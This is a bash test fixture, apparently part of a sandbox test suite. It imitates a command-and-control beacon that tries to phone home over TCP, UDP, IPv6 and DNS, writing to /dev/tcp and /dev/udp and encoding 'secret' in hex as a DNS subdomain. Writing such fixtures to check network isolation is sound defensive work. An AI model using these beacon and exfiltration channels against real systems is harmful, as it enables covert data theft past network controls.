#!/bin/bash
# HOSTILE TEST FIXTURE: the shell twin of sample-tools/c2-beacon (same arguments, output and exit
# status), run natively: it tries every network channel it is given to phone home with
# `beacon:c2-beacon`; the sandbox must block each one unless a policy grants it.
#   c2-beacon.sh [--tcp-ip IP:PORT] [--tcp-name NAME:PORT] [--dns DOMAIN] [--udp IP:PORT] [--ipv6 [ADDR]:PORT]
# One line per channel: `<channel>: ok` or `<channel>: blocked: <error>`. Exit 0 if any channel
# got through, 3 if all were blocked, 2 on bad arguments.
payload=beacon:c2-beacon
any=3
usage() { echo "usage: c2-beacon.sh [--tcp-ip IP:PORT] [--tcp-name NAME:PORT] [--dns DOMAIN] [--udp IP:PORT] [--ipv6 [ADDR]:PORT]" >&2; exit 2; }
[ $# -gt 0 ] && [ $(($# % 2)) -eq 0 ] || usage
while [ $# -gt 0 ]; do
    channel=${1#--} target=$2
    shift 2
    host=${target%:*} port=${target##*:}
    host=${host#[} host=${host%]}
    case $channel in
        tcp-ip | tcp-name | ipv6) err=$( { echo "$payload" > "/dev/tcp/$host/$port"; } 2>&1 ) ;;
        udp) err=$( { printf %s "$payload" > "/dev/udp/$host/$port"; } 2>&1 ) ;;
        dns) err=$(getent ahosts "736563726574.$target" 2>&1 > /dev/null || echo "lookup 736563726574.$target failed") ;;
        *) usage ;;
    esac
    if [ -z "$err" ]; then echo "$channel: ok"; any=0; else echo "$channel: blocked: ${err##*: }"; fi
done
exit $any
